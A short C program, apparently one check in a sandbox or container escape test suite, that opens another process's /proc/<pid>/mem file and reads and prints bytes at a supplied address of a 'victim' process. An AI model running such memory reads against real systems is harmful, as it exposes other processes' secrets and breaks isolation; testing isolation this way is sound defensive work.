/* Reads the memory of a process of the host by its file. */
#include "escape.h"

int main(void) {
    char path[64], found[128] = "";
    snprintf(path, sizeof path, "/proc/%s/mem", given("ESC_VICTIM"));
    int memory = open(path, O_RDONLY);
    if (pread(memory, found, sizeof found - 1, strtoul(given("ESC_VICTIM_ADDRESS"), NULL, 10)) > 0) printf("%s\n", found);
}
